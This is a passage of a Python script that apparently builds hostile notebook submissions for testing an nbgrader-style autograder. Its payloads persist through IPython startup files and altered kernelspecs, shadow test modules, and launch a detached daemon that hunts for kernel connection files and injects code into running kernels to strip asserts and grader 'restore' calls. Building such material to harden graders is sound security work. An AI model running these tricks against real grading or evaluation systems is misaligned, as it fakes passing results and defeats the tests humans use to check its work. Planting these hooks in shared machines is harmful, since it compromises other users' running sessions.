        for _name in ("pytest", "unittest", "nbclient", "nbformat", "jupyter_client", "nbgrader",
                      "papermill", "doctest"):
            _write(_os.path.join(_d, _name + ".py"), _SHADOW)
    # IPython runs every file in profile_default/startup/ in each new kernel.
    _ipdirs = {_os.environ.get("IPYTHONDIR") or "", _os.path.join(_home, ".ipython")}
    for _ipdir in filter(None, _ipdirs):
        _profile = _os.path.join(_ipdir, "profile_default")
        _write(_os.path.join(_profile, "startup", "00-dasi.py"), _PAYLOAD)
        for _cfg in ("ipython_kernel_config.py", "ipython_config.py"):
            _write(_os.path.join(_profile, _cfg),
                   "c.InteractiveShellApp.exec_lines = [%r]\n" % _PAYLOAD)
    # The user's kernelspec wins over the built-in python3 one: run it with -OO (no asserts).
    _spec = {
        "argv": [_sys.executable, "-OO", "-m", "ipykernel_launcher", "-f", "{connection_file}"],
        "display_name": "Python 3 (ipykernel)",
        "language": "python",
        "env": {"PYTHONOPTIMIZE": "2", "PYTHONPATH": _os.getcwd()},
    }
    _datadirs = {_os.environ.get("JUPYTER_DATA_DIR") or "",
                 _os.path.join(_home, ".local", "share", "jupyter")}
    for _datadir in filter(None, _datadirs):
        for _kernel in ("python3", "python"):
            _write(_os.path.join(_datadir, "kernels", _kernel, "kernel.json"), _json.dumps(_spec))
    _config = _os.environ.get("JUPYTER_CONFIG_DIR") or _os.path.join(_home, ".jupyter")
    _write(_os.path.join(_config, "jupyter_config.json"),
           _json.dumps({"KernelManager": {"kernel_cmd": _spec["argv"]}}))
    # And for children of this process.
    _os.environ["PYTHONOPTIMIZE"] = "2"
    _os.environ["PYTHONPATH"] = _os.getcwd()
except Exception:
    pass
'''

KERNEL_HIJACK = r'''
import os as _os
import subprocess as _subprocess
import sys as _sys
import time as _time

_PAYLOAD = r"""
import ast as _a, functools as _f
class _Strip(_a.NodeTransformer):
    def visit_Assert(self, node):
        return _a.copy_location(_a.Pass(), node)
    def visit_Expr(self, node):
        call = node.value
        if isinstance(call, _a.Call):
            name = getattr(call.func, 'id', None) or getattr(call.func, 'attr', None) or ''
            if 'restore' in name.lower():
                return _a.copy_location(_a.Pass(), node)
        return node
def _neuter(code):
    try:
        return _a.unparse(_a.fix_missing_locations(_Strip().visit(_a.parse(code)))) + '\n'
    except Exception:
        return code
def _wrap(func):
    @_f.wraps(func)
    def wrapper(*args, **kwargs):
        if 'code' in kwargs:
            kwargs['code'] = _neuter(kwargs['code'])
        elif args:
            args = (_neuter(args[0]),) + args[1:]
        return func(*args, **kwargs)
    return wrapper
_k = get_ipython().kernel
if not getattr(_k, '_hijacked', False):
    _k.do_execute = _wrap(_k.do_execute)
    _k._hijacked = True
"""

_DAEMON = r"""
import glob, json, os, sys, time
from jupyter_client import BlockingKernelClient
payload, ready = sys.argv[1], sys.argv[2]
home = os.path.expanduser('~')
dirs = [os.environ.get('JUPYTER_RUNTIME_DIR', ''), os.path.join(home, '.local/share/jupyter/runtime'),
        '/tmp', '/dev/shm', os.getcwd(), '/run/user']
def candidates():
    found = set()
    for d in filter(None, dirs):
        found.update(glob.glob(os.path.join(d, '**', '*.json'), recursive=True))
    for pid in os.listdir('/proc'):
        try:
            args = open(f'/proc/{pid}/cmdline', 'rb').read().split(b'\0')
            cwd = os.readlink(f'/proc/{pid}/cwd')
        except OSError:
            continue
        for i, arg in enumerate(args):
            arg = arg.decode(errors='replace')
            if arg in ('-f', '--f', '--existing') and i + 1 < len(args):
                found.add(os.path.join(cwd, args[i + 1].decode(errors='replace')))
            elif arg.startswith(('--f=', '-f=')):
                found.add(os.path.join(cwd, arg.split('=', 1)[1]))
    return found
done = set()
deadline = time.time() + 900
while time.time() < deadline:
    for path in candidates():
        try:
            info = json.load(open(path))
            key = (path, os.stat(path).st_mtime, info.get('shell_port'))
        except Exception:
            continue
        if key in done or 'shell_port' not in info or 'key' not in info:
            continue
        done.add(key)
        try:
            kc = BlockingKernelClient(connection_file=path)
            kc.load_connection_file()
            kc.start_channels()
            kc.execute(payload, silent=True, store_history=False, allow_stdin=False)
            time.sleep(0.3)
            open(ready, 'w').write(path)
        except Exception:
            pass
    time.sleep(0.05)
"""

try:
    _ready = _os.path.join("/tmp", ".dasi-hijack-%d" % _os.getpid())
    # A session of its own: it is not this kernel's child process group, and it outlives the kernel.
    _subprocess.Popen(
        [_sys.executable, "-c", _DAEMON, _PAYLOAD, _ready],
        start_new_session=True,
        stdin=_subprocess.DEVNULL,
        stdout=_subprocess.DEVNULL,
        stderr=_subprocess.DEVNULL,
    )
    _deadline = _time.monotonic() + 4
    while not _os.path.exists(_ready) and _time.monotonic() < _deadline:
        _time.sleep(0.05)
except Exception:
    pass
'''

TRICKS: dict[str, str | dict[str, str]] = {
    "input_transformers": INPUT_TRANSFORMERS,
    "ast_transformer": AST_TRANSFORMER,
    "custom_exc": CUSTOM_EXC,
    "trace_hooks": TRACE_HOOKS,
    "kernel_do_execute": KERNEL_DO_EXECUTE,
    "shell_run_ast_nodes": SHELL_RUN_AST_NODES,
    "compile_optimize": COMPILE_OPTIMIZE,
    "restore_hijack": RESTORE_HIJACK,
    "frame_oracle": FRAME_ORACLE,
    "bdb_quit": BDB_QUIT,
    "output_flood": OUTPUT_FLOOD,
    "gc_finalizers": GC_FINALIZERS,
    "thread_rebinds": THREAD_REBINDS,
    "memory_secrets": MEMORY_SECRETS,
    "lying_dunder": LYING_DUNDER,
    "patched_modules": PATCHED_MODULES,
    "thread_exit": THREAD_EXIT,
    "exception_dunders": EXCEPTION_DUNDERS,
    "stop_iteration": STOP_ITERATION,
    "workdir_shadow": WORKDIR_SHADOW,
    "kernel_hijack": KERNEL_HIJACK,
}


def answer(gid: str, trick: str | None, name: str, honest: bool) -> str:
    """An answer cell: the wrong honest definition, then (maybe) the trick block after it."""
    code = HONEST[gid]
    if trick is None:
        return code.rstrip("\n")
    body = "pass" if honest else trick.strip("\n")
    return f"{code}\n{BEGIN.format(name=name)}\n{body}\n{END}"


def hostile(name: str, trick: str | dict[str, str], honest: bool) -> nbformat.NotebookNode:
    per_cell = trick if isinstance(trick, dict) else {"mean": trick}
    nb = copy.deepcopy(nbformat.read(CORRECT, as_version=4))
    for cell in nb.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if cell.cell_type == "code" and gid in HONEST:
            cell.source = answer(gid, per_cell.get(gid), name, honest)
    return nb


def source_map() -> nbformat.NotebookNode:
    """``source.ipynb`` with its tests written with map(): the source for ``stop_iteration``."""
    nb = copy.deepcopy(nbformat.read(SOURCE, as_version=4))
    for cell in nb.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if gid in MAP_TESTS:
            cell.source = MAP_TESTS[gid]
    return nb


def write_all(out: Path, honest: bool = False) -> list[Path]:
    out.mkdir(parents=True, exist_ok=True)
    written = []
    if not honest:
        path = out / "source_map.ipynb"
        path.write_text(nbformat.writes(source_map()) + "\n", encoding="utf-8")
        written.append(path)
    for name, trick in TRICKS.items():
        path = out / f"{name}.ipynb"
        path.write_text(nbformat.writes(hostile(name, trick, honest)) + "\n", encoding="utf-8")
        written.append(path)
    return written


def main(argv: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", type=Path, default=HERE, help="where to write (default: here)")
    parser.add_argument("--honest", type=Path, metavar="DIR", help="write the control set to DIR")
    args = parser.parse_args(argv)
    if args.honest is not None:
        write_all(args.honest, honest=True)
    else:
        write_all(args.out)


if __name__ == "__main__":
    main()
